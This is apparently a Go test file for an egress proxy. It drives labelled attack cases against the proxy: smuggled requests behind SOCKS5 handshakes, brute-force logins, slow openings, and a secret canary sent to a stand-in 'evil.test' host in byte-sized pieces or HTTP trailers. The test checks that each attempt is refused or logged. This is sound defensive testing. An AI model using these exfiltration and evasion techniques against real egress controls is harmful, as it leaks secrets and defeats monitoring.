package proxy_test

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/egressd/egressd/internal/audit"
	"github.com/egressd/egressd/proxy"
)

func socksLogin(user, token string) string {
	return "\x05\x01\x02\x01" + string(rune(len(user))) + user + string(rune(len(token))) + token
}

func socksConnect(host string, port uint16) string {
	return "\x05\x01\x00\x03" + string(rune(len(host))) + host + string([]byte{byte(port >> 8), byte(port)})
}

// All of a SOCKS5 client's bytes come at once, and what follows the request with them.
func TestAttack_B23_B24_bytes_behind_a_SOCKS_request(t *testing.T) {
	g := attacked(t, options{})
	t.Run("B24 granted", func(t *testing.T) {
		port := g.bed.Plain.Port()
		all := socksLogin("one", tokenOne) + socksConnect("good.test", port)
		got, closed := g.talk(g.dial(t), all+"GET / HTTP/1.1\r\nHost: "+g.bed.Plain.HostPort()+"\r\n\r\n", 3*time.Second)
		if !closed || !strings.Contains(string(got), "plaintext_credential_refused") {
			t.Errorf("closed=%v %q", closed, got)
		}
	})
	t.Run("B24 refused", func(t *testing.T) {
		g.untouched(t, func() {
			for _, first := range []string{socksLogin("one", tokenOne) + socksConnect("denied.test", 443), socksLogin("one", "wrong") + socksConnect("evil.test", g.bed.Evil.Port())} {
				next := "GET http://" + g.bed.Evil.HostPort() + "/x HTTP/1.1\r\nHost: " + g.bed.Evil.HostPort() + "\r\n" + proxyAuth("one", tokenOne) + "\r\n"
				if got, closed := g.talk(g.dial(t), first+next, 3*time.Second); !closed || strings.Contains(string(got), "HTTP/1.1") {
					t.Errorf("closed=%v %q", closed, got)
				}
			}
		})
	})
	g.safe(t)
}

func TestAttack_F04_F07_limits_of_SOCKS_clients(t *testing.T) {
	l := quick()
	l.ConnectionsPerSandbox = 8
	g := attacked(t, options{limits: l})
	var held []net.Conn
	granted := 0
	for range 20 {
		c := g.dial(t)
		held = append(held, c)
		_, _ = io.WriteString(c, socksLogin("one", tokenOne)+socksConnect("evil.test", g.bed.Evil.Port()))
		b := make([]byte, 14)
		if _, err := io.ReadFull(c, b); err == nil && b[5] == 0 {
			granted++
			_, _ = c.Write(clientHello(t, "evil.test"))
		}
	}
	if granted != 8 {
		t.Errorf("F07 %d tunnels of 20", granted)
	}
	for _, c := range held {
		_ = c.Close()
	}
	waitFor(t, func() bool { return g.live(t) == 0 })
	for i := range 40 {
		_, _ = g.talk(g.dial(t), socksLogin("one", fmt.Sprint("guess-", i)), time.Second)
	}
	slowed := 0
	for _, a := range g.records.list() {
		if a.Code == "too_many_failures" && a.Protocol == "socks5" {
			slowed++
		}
	}
	if slowed < 20 {
		t.Errorf("F04 %d of 40 guesses were slowed down", slowed)
	}
	g.safe(t)
}

// Whoever says its first words slowly, by the newer ways in.
func TestAttack_C23_slow_openings(t *testing.T) {
	t.Parallel() // it mostly waits
	g := attacked(t, options{limits: proxy.Limits{HandshakeTimeout: 700 * time.Millisecond, SniffTimeout: 500 * time.Millisecond, StallTimeout: 900 * time.Millisecond}})
	hello := string(clientHello(t, "good.test"))
	for name, open := range map[string]func() (net.Conn, string){
		"socks greeting": func() (net.Conn, string) { return g.dial(t), "\x05\xff" + strings.Repeat("\x02", 255) },
		"socks login":    func() (net.Conn, string) { return g.dial(t), socksLogin("one", strings.Repeat("x", 200)) },
		"socks, then a name": func() (net.Conn, string) {
			return g.dial(t), socksLogin("one", tokenOne) + "\x05\x01\x00\x03\xff" + strings.Repeat("a", 200)
		},
		"transparent head": func() (net.Conn, string) {
			return g.aimedAt(t, "one", tokenOne, g.bed.Plain.Port()), "GET / HTTP/1.1\r\nX: " + strings.Repeat("x", 500)
		},
		"transparent hello": func() (net.Conn, string) { return g.aimedAt(t, "one", tokenOne, g.bed.Good.Port()), hello },
	} {
		t.Run("C23 "+name, func(t *testing.T) {
			c, b := open()
			start := time.Now()
			go func() { // ends with the connection
				for i := range b {
					if _, err := io.WriteString(c, b[i:i+1]); err != nil {
						return
					}
					time.Sleep(30 * time.Millisecond)
				}
			}()
			if _, closed := g.talk(c, "", 8*time.Second); !closed || time.Since(start) > 4*time.Second {
				t.Errorf("closed=%v after %v", closed, time.Since(start))
			}
		})
	}
	t.Run("C22 transparent, no end of a head", func(t *testing.T) {
		got, closed := g.talk(g.aimedAt(t, "one", tokenOne, g.bed.Plain.Port()), "GET / HTTP/1.1\r\n"+strings.Repeat("X: "+strings.Repeat("x", 1000)+"\r\n", 100), 3*time.Second)
		if !closed || strings.Contains(string(got), " 200 ") {
			t.Errorf("closed=%v %.200q", closed, got)
		}
	})
	g.safe(t)
}

// The leak guard sees a value wherever in a body its pieces are cut, and behind it.
func TestAttack_C07_values_in_pieces_and_behind_bodies(t *testing.T) {
	g := attacked(t, options{})
	g.use(strings.Replace(basePolicy, "credentialRules:", lookAtEvil, 1))
	if a := get(t, g.one(), g.bed.Good.URL("/bearer")); a.status != http.StatusOK { // the value is in memory from here on
		t.Fatalf("%+v", a)
	}
	bothVersions(t, g.stack, func(t *testing.T, c *http.Client) {
		g.forget()
		a := do(t, c, http.MethodPost, g.bed.Evil.URL("/echo"), func(r *http.Request) {
			pr, pw := io.Pipe()
			go func() {
				for i := range canary {
					_, _ = pw.Write([]byte(canary[i : i+1]))
				}
				_ = pw.Close()
			}()
			r.Body, r.ContentLength = pr, -1
		})
		if a.err == nil && a.status == http.StatusOK && strings.Contains(a.body, "POST") { // the origin may say that the body was cut
			t.Errorf("C07 byte by byte: %+v", a)
		}
		g.records.wait(t, func(a audit.Record) bool { return a.Code == "secret_in_request" })
	})
	for name, trailer := range map[string]string{"as it is": canary, "in a value": "x=" + canary + ";"} {
		t.Run("C07 in a trailer, "+name, func(t *testing.T) {
			g.forget()
			req, err := http.NewRequest(http.MethodPost, g.bed.Evil.URL("/echo"), io.MultiReader(strings.NewReader("body")))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Content-Type", "application/grpc")
			req.Header.Set("Te", "trailers")
			req.Trailer = http.Header{"X-Note": {trailer}}
			if resp, err := g.client("one", tokenOne, true).Do(req); err == nil {
				_, _ = io.Copy(io.Discard, resp.Body)
				_ = resp.Body.Close()
			}
			g.records.wait(t, func(a audit.Record) bool { return a.Code == "secret_in_request" })
		})
	}
	g.clean(t)
}
